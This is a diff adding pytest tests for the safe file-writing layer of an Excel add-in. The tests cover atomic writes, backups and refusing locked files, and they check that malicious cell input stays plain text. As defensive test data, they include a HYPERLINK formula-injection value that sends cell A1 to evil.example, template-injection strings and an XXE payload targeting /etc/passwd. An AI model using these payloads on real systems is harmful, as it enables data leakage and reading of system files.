@@ -1,6 +1,7 @@
 """addin.safeio：恶意/错误文件被拒绝（中文说明），写入是原子的并保留备份，锁定与只读时拒绝写入，文本不会变成公式。"""
 from __future__ import annotations
 
+import copy
 import io
 import os
 import re
@@ -528,3 +529,318 @@ def test_one_cell_at_xfd1048576_does_not_blow_up_the_grid(book_path):
 
 def test_openpyxl_book_still_works_for_plain_use(book_path):
     assert "评分表" in OpenpyxlBook(book_path).sheet_names()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 每一条写入路径（命令行）：原子替换、覆盖前备份、文件被打开（锁文件）时以中文说明拒绝且一字节不改
+# ---------------------------------------------------------------------------------------------------------------
+def _cli(capsys, *argv: str) -> tuple[int, str, str]:
+    from addin.cli import main
+
+    try:
+        code = main([str(a) for a in argv])
+    except BaseException as exc:  # noqa: BLE001 —— 任何逃出 main 的异常都是用户会看到的回溯
+        pytest.fail(f"jixiao {' '.join(map(str, argv))} 抛出 {type(exc).__name__}: {exc}")
+    out, err = capsys.readouterr()
+    assert "Traceback" not in out + err
+    return code, out, err
+
+
+def _leftovers(folder: Path) -> list[str]:
+    """写入留下的临时文件（safeio 的 .~jixiao-*、各模块自己的 .tmp）。"""
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".~jixiao-") or p.name.endswith(".tmp"))
+
+
+def _backups(folder: Path) -> list[Path]:
+    return sorted(p for p in folder.iterdir() if safeio.is_backup_name(p.name))
+
+
+def _fake_soffice(tmp_path: Path, monkeypatch) -> None:
+    """不装 LibreOffice 也能走一遍 PDF 的写出路径：假 soffice 把 --outdir 中生成同名 .pdf。"""
+    import addin.pdf as pdf
+
+    exe = tmp_path / "soffice"
+    exe.write_text('#!/bin/sh\nfor a; do last="$a"; done\nwhile [ $# -gt 0 ]; do [ "$1" = --outdir ] && out="$2"; '
+                   'shift; done\nb=$(basename "$last" .docx)\nprintf "%%PDF-1.4 fake" > "$out/$b.pdf"\n')
+    exe.chmod(0o755)
+    monkeypatch.setattr(pdf, "find_soffice", lambda: str(exe))
+
+
+# (名称, 命令（{wb} 为工作簿，{d} 为输出目录）, 写入的目标文件（相对 d）)
+WRITE_PATHS = [
+    ("report", ["report", "{wb}"], "wb.xlsx"),
+    ("report-o", ["report", "{wb}", "-o", "{d}/out.xlsx"], "out.xlsx"),
+    ("report-docx", ["report", "{wb}", "-o", "{d}/out.xlsx", "--docx", "{d}/报告.docx"], "报告.docx"),
+    ("report-pdf", ["report", "{wb}", "-o", "{d}/out.xlsx", "--pdf", "{d}/报告.pdf"], "报告.pdf"),
+    ("check-write", ["check", "{wb}", "--write"], "wb.xlsx"),
+    ("batch", ["batch", "{d}/in", "-o", "{d}/汇总.xlsx", "--jobs", "1", "-q"], "汇总.xlsx"),
+    ("compare", ["compare", "{d}/in/wb.xlsx", "-o", "{d}/差异.xlsx"], "差异.xlsx"),
+    ("export", ["export", "{wb}", "-o", "{d}/定稿.xlsx"], "定稿.xlsx"),
+    ("new", ["new", "--system", "hunan-dept", "-o", "{d}/空白.xlsx", "--force"], "空白.xlsx"),
+    ("demo", ["demo", "-o", "{d}"], "zizhou-2021.xlsx"),
+]
+
+
+def _setup_write_path(demo_dir: Path, tmp_path: Path, monkeypatch) -> tuple[Path, Path]:
+    d = tmp_path / "out"
+    (d / "in").mkdir(parents=True)
+    wb = d / "wb.xlsx"
+    shutil.copy(demo_dir / "zizhou-2021.xlsx", wb)
+    shutil.copy(demo_dir / "zizhou-2021.xlsx", d / "in" / "wb.xlsx")
+    _fake_soffice(tmp_path, monkeypatch)
+    return d, wb
+
+
+def _argv(cmd: list[str], d: Path, wb: Path) -> list[str]:
+    return [a.format(wb=wb, d=d) for a in cmd]
+
+
+@pytest.mark.parametrize("name, cmd, target", WRITE_PATHS, ids=[w[0] for w in WRITE_PATHS])
+def test_every_write_path_refuses_a_file_open_in_excel(name, cmd, target, demo_dir, tmp_path, monkeypatch, capsys):
+    d, wb = _setup_write_path(demo_dir, tmp_path, monkeypatch)
+    t = d / target
+    if not t.exists():
+        t.write_bytes(b"old content the user cares about")
+    before = {p.name: p.read_bytes() for p in d.iterdir() if p.is_file()}
+    lock = d / ("~$" + target)
+    lock.write_bytes(b"owner")
+    code, out, err = _cli(capsys, *_argv(cmd, d, wb))
+    assert code == 2, (out, err)
+    assert lock.name in err and "关闭" in err and target in err, err
+    after = {p.name: p.read_bytes() for p in d.iterdir() if p.is_file() and p != lock}
+    if name in ("report-docx", "report-pdf"):
+        after.pop("out.xlsx", None)  # 报告表已另存（-o），被拒绝的只是随后写出的 Word/PDF
+    assert after == before  # 目标与其他文件一字节未改，没有备份、没有临时文件
+    assert not _leftovers(d)
+
+
+@pytest.mark.parametrize("name, cmd, target", WRITE_PATHS, ids=[w[0] for w in WRITE_PATHS])
+def test_every_write_path_is_atomic_and_backs_up_what_it_overwrites(name, cmd, target, demo_dir, tmp_path,
+                                                                   monkeypatch, capsys):
+    d, wb = _setup_write_path(demo_dir, tmp_path, monkeypatch)
+    t = d / target
+    if not t.exists():  # 目标原有内容：一份用户改过的文件（与将写出的内容不同）
+        shutil.copy(demo_dir / "baojing-2018.xlsx", t)
+    old = t.read_bytes()
+    code, out, err = _cli(capsys, *_argv(cmd, d, wb))
+    assert code in (0, 1), (out, err)
+    assert t.read_bytes() != old
+    baks = [b for b in _backups(d) if b.name.startswith(Path(target).stem + ".")]
+    if name == "report-pdf":
+        assert baks == []  # PDF 总由 Word 报告重新生成，不留备份（写入仍是原子的）
+    else:
+        assert len(baks) == 1 and baks[0].read_bytes() == old, [b.name for b in _backups(d)]
+        assert BAK_RE.match(baks[0].name) or baks[0].suffix != ".xlsx"
+    assert not _leftovers(d)
+    if t.suffix == ".xlsx":
+        with zipfile.ZipFile(t) as z:
+            assert z.testzip() is None
+
+
+def test_regenerating_the_same_output_leaves_no_redundant_backups(demo_dir, tmp_path, capsys):
+    """同一份工作簿再次生成 Word 报告、再次运行 demo：内容没有变化，不堆积备份；改过的文件才留备份。"""
+    d = tmp_path / "demo"
+    assert _cli(capsys, "demo", "-o", d)[0] == 0
+    assert _cli(capsys, "demo", "-o", d)[0] == 0
+    assert _backups(d) == []
+    wb = openpyxl.load_workbook(d / "shiping-2022.xlsx")
+    wb["评分表"]["W12"] = "评价人改过"
+    wb.save(d / "shiping-2022.xlsx")
+    edited = (d / "shiping-2022.xlsx").read_bytes()
+    code, out, _ = _cli(capsys, "demo", "-o", d)
+    assert code == 0
+    (bak,) = _backups(d)
+    assert bak.name.startswith("shiping-2022.") and bak.read_bytes() == edited and str(bak) in out
+    docx = tmp_path / "r.docx"
+    for _ in range(2):
+        assert _cli(capsys, "report", d / "baojing-2018.xlsx", "-o", tmp_path / "r.xlsx", "--docx", docx)[0] == 0
+    assert not [p for p in _backups(tmp_path) if p.suffix == ".docx"]
+
+
+def test_batch_does_not_count_backups_as_departments(demo_dir, tmp_path, capsys):
+    d = tmp_path / "in"
+    d.mkdir()
+    shutil.copy(demo_dir / "baojing-2018.xlsx", d / "保靖.xlsx")
+    assert _cli(capsys, "report", d / "保靖.xlsx")[0] == 0  # 写回原文件，旁边留下 保靖.YYYYmmdd-HHMMSS.bak.xlsx
+    assert len(_backups(d)) == 1
+    out = tmp_path / "汇总.xlsx"
+    assert _cli(capsys, "batch", d, "-o", out, "--jobs", "1", "-q")[0] == 0
+    ws = openpyxl.load_workbook(out)["汇总"]
+    assert [ws.cell(r, 3).value for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value] == ["保靖.xlsx"]
+
+
+def test_macro_workbook_report_is_refused_for_write_back_but_saved_as(book_path, tmp_path, capsys):
+    p = _xlsm(book_path, tmp_path)
+    before = p.read_bytes()
+    code, _, err = _cli(capsys, "report", p)
+    assert code == 2 and "含宏" in err and "-o" in err
+    code, _, err = _cli(capsys, "check", p, "--write")
+    assert code == 2 and "含宏" in err
+    assert p.read_bytes() == before
+    code, _, err = _cli(capsys, "report", p, "-o", tmp_path / "结果.xlsx")
+    assert code in (0, 1) and "不读取也不运行宏" in err
+    assert "xl/vbaProject.bin" not in zipfile.ZipFile(tmp_path / "结果.xlsx").namelist()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 用户输入的每一格在生成报告、写入校验结果后不变（全部示例工作簿）
+# ---------------------------------------------------------------------------------------------------------------
+GENERATED_SHEETS = ("报告", "校验结果")
+
+
+def _user_snapshot(path: Path) -> dict:
+    """用户的工作表（生成的“报告”“校验结果”除外）：每个单元格（含只有格式的空白格）的值、公式、类型、数字格式、
+    字体、填充、边框、对齐、保护；合并区域、数据验证、条件格式、列宽、行高、冻结窗格、工作表保护、定义的名称、表顺序。"""
+    wb = openpyxl.load_workbook(path)
+    snap: dict = {"order": [n for n in wb.sheetnames if n not in GENERATED_SHEETS],
+                  "names": sorted((n, d.attr_text) for n, d in wb.defined_names.items())}
+    for ws in wb.worksheets:
+        if ws.title in GENERATED_SHEETS:
+            continue
+        snap[ws.title] = {
+            # 样式属性是 StyleProxy，两个代理之间不能直接比较：copy 得到真正的样式对象
+            "cells": {c.coordinate: (c.value, c.data_type, c.number_format) + tuple(
+                copy.copy(s) for s in (c.font, c.fill, c.border, c.alignment, c.protection))
+                for c in ws._cells.values()},
+            "merged": sorted(str(m) for m in ws.merged_cells.ranges),
+            "validations": sorted((str(dv.sqref), dv.type, dv.operator, dv.formula1, dv.formula2, dv.allow_blank,
+                                   dv.showErrorMessage, dv.error, dv.showInputMessage, dv.prompt)
+                                  for dv in ws.data_validations.dataValidation),
+            "conditional": sorted((str(cf.sqref), [(r.type, r.operator, tuple(r.formula or ()), r.priority)
+                                                   for r in cf.rules]) for cf in ws.conditional_formatting),
+            "widths": {k: (d.min, d.max, d.width, d.hidden) for k, d in ws.column_dimensions.items()},
+            "heights": {k: (d.height, d.hidden) for k, d in ws.row_dimensions.items()},
+            "freeze": ws.freeze_panes,
+            "protection": ws.protection,
+            "local_names": sorted((n, d.attr_text) for n, d in ws.defined_names.items()),
+        }
+    return snap
+
+
+@pytest.mark.parametrize("name", ["baojing-2018", "zizhou-2021", "shiping-2022", "kaifu-2020"])
+def test_every_typed_cell_survives_report_and_check_write(name, demo_dir, tmp_path, capsys):
+    p = tmp_path / f"{name}.xlsx"
+    shutil.copy(demo_dir / f"{name}.xlsx", p)
+    original = p.read_bytes()
+    before = _user_snapshot(p)
+    # 快照确实覆盖了要保护的内容（否则“不变”什么也说明不了）
+    sheet = before["评分表"]
+    assert len(sheet["cells"]) > 300 and sheet["validations"] and sheet["merged"] and sheet["protection"].sheet
+    assert any(isinstance(v[0], str) and v[0].startswith("=") for v in sheet["cells"].values())
+    assert any(w[2] for w in sheet["widths"].values())
+
+    code, out, err = _cli(capsys, "report", p)
+    assert code in (0, 1), err
+    assert _user_snapshot(p) == before
+    (bak,) = _backups(tmp_path)
+    assert bak.read_bytes() == original
+    assert "报告" in openpyxl.load_workbook(p).sheetnames
+
+    code, out, err = _cli(capsys, "check", p, "--write")
+    assert code in (0, 1), err
+    after = _user_snapshot(p)
+    for key in before:  # 逐项比较，失败时指出是哪张表
+        assert after[key] == before[key], key
+    assert {"报告", "校验结果"} <= set(openpyxl.load_workbook(p).sheetnames)
+    assert len(_backups(tmp_path)) == 2
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 验收：单位名称填成 =HYPERLINK(...)，在报告表、Word、汇总、校验结果中都只是文本
+# ---------------------------------------------------------------------------------------------------------------
+def test_hyperlink_typed_as_unit_name_is_text_everywhere(tmp_path, capsys):
+    import dataclasses
+
+    import docx
+
+    from workbook_templates.build import build_workbook
+    from workbook_templates.examples import EXAMPLES
+
+    evil = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
+    base = EXAMPLES["baojing-2018"]
+    # 文字材料里的 Jinja2 语法也只是文字（单元格内容不会被当作模板执行）
+    ex = dataclasses.replace(base, scalars={**base.scalars, "unit_name": evil},
+                             texts={**base.texts, "duties": "@SUM(1)\n{{ 7*7 }}{% for x in [1] %}循环{% endfor %}"})
+    src = tmp_path / "in" / "evil.xlsx"
+    src.parent.mkdir()
+    build_workbook(ex.system, src, ex)
+    cell = openpyxl.load_workbook(src)["基础数据表"]
+    assert any(c.value == evil and c.data_type == "s" for row in cell.iter_rows() for c in row)
+
+    out, docx_path = tmp_path / "报告.xlsx", tmp_path / "报告.docx"
+    assert _cli(capsys, "report", src, "-o", out, "--docx", docx_path)[0] in (0, 1)
+    assert _cli(capsys, "check", out, "--write")[0] in (0, 1)
+    assert _cli(capsys, "batch", src.parent, "-o", tmp_path / "汇总.xlsx", "--jobs", "1", "-q")[0] in (0, 1)
+
+    wb = openpyxl.load_workbook(out)
+    report = [c for row in wb["报告"].iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in report if c.data_type == "f"] == []
+    shown = [c for c in report if isinstance(c.value, str) and evil in c.value]
+    assert len(shown) >= 2 and report[0].value.startswith(evil)  # 标题以单位名称开头
+    texts = [c.value for c in report if isinstance(c.value, str)]
+    assert any("{{ 7*7 }}循环" not in t and "{{ 7*7 }}" in t for t in texts) and not any("49" == t for t in texts)
+    assert "@SUM(1)" in texts
+    assert [c.coordinate for row in wb["校验结果"].iter_rows() for c in row if c.data_type == "f"] == []
+    with zipfile.ZipFile(out) as z:  # 生成的两张表的 XML 中没有任何 <f>
+        names = {s: f"xl/worksheets/sheet{i}.xml" for i, s in enumerate(wb.sheetnames, 1)}
+        for s in GENERATED_SHEETS:
+            assert b"<f>" not in z.read(names[s]) and b"<f " not in z.read(names[s])
+
+    d = docx.Document(str(docx_path))
+    paras = [p.text for p in d.paragraphs]
+    assert paras[0].startswith(evil) and sum(evil in t for t in paras) >= 2
+    assert "{{ 7*7 }}" in "\n".join(paras)
+    xml = zipfile.ZipFile(docx_path).read("word/document.xml")
+    assert b"instrText" not in xml and b"fldSimple" not in xml  # 没有 Word 域（HYPERLINK 域、DDE 域）
+
+    ws = openpyxl.load_workbook(tmp_path / "汇总.xlsx")["汇总"]
+    (unit,) = [ws.cell(r, 4) for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value == "evil.xlsx"]
+    assert unit.value == evil and unit.data_type == "s"
+
+
+def test_python_docx_and_lxml_do_not_expand_entities():
+    """Word 报告读取的模板由 python-docx 经 lxml 解析：resolve_entities=False，外部实体与实体放大都不生效。"""
+    from docx.oxml.parser import parse_xml
+    from lxml.etree import XMLSyntaxError
+
+    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
+    assert "root:" not in "".join(parse_xml(xxe).itertext())
+    try:
+        text = "".join(parse_xml(LAUGHS).itertext())
+    except XMLSyntaxError:
+        pass  # libxml2 ≥ 2.12 直接拒绝实体放大
+    else:
+        assert len(text) < 1000
+
+
+def test_every_raw_write_in_addin_is_accounted_for():
+    """静态检查：addin/ 中直接写文件的调用只出现在下列位置（都在 safeio 的临时文件之内，或不是用户文件）。
+    新增写入路径时请经 safeio.atomic_output / save_book / write_bytes，并在此登记。"""
+    pattern = re.compile(r"\.save\(|write_bytes\(|write_text\(|open\([^)]*[\"'][wa]b?[\"']|shutil\.(?:move|copy2?|copyfile)\("
+                         r"|os\.(?:replace|rename)\(|to_excel\(|xlsxwriter\.Workbook\(|ZipFile\([^)]*[\"']w[\"']")
+    allowed = {
+        "safeio.py": "本身",
+        "book.py": "OpenpyxlBook.save：由 safeio.save_book 以临时文件调用",
+        "cached.py": "在 OpenpyxlBook.save 的目标（safeio 的临时文件）上补回公式结果",
+        "xlbook.py": "Excel 自己保存（xlwings），与用户在 Excel 中按保存相同",
+        "xlam.py": "构建加载项 .xlam（开发者产物，写临时文件后替换）",
+        "addin_cli.py": "加载项安装：xlwings.conf（先留 .bak）、复制 .xlam、Excel COM 保存",
+        "ribbon.py": "错误日志（追加）",
+        "docx_report.py": "doc.save(tmp)：atomic_output 的临时文件；img.save 写入内存",
+        "pdf.py": "copyfile 到 atomic_output 的临时文件",
+        "batch.py": "XlsxWriter 写临时文件，再经 safeio.atomic_output 替换",
+        "compare.py": "XlsxWriter 写临时文件，再经 safeio.atomic_output 替换",
+        "export.py": "ZipFile 写 atomic_output 的临时文件",
+        "report_cli.py": "book.save(path) 只在没有 safeio 时（不会发生）",
+        "checks_cli.py": "book.save() 只在没有 safeio 时（不会发生）",
+    }
+    root = Path(__file__).resolve().parent.parent / "addin"
+    found = {}
+    for f in sorted(root.glob("*.py")):
+        lines = [ln for ln in f.read_text("utf-8").splitlines() if pattern.search(ln) and not ln.strip().startswith("#")]
+        if lines:
+            found[f.name] = lines
+    unexpected = {k: v for k, v in found.items() if k not in allowed}
+    assert not unexpected, f"未经 safeio 的写入：{unexpected}"
+    for name in ("docx_report.py", "pdf.py", "batch.py", "compare.py", "export.py"):
+        assert "atomic_output" in (root / name).read_text("utf-8"), name
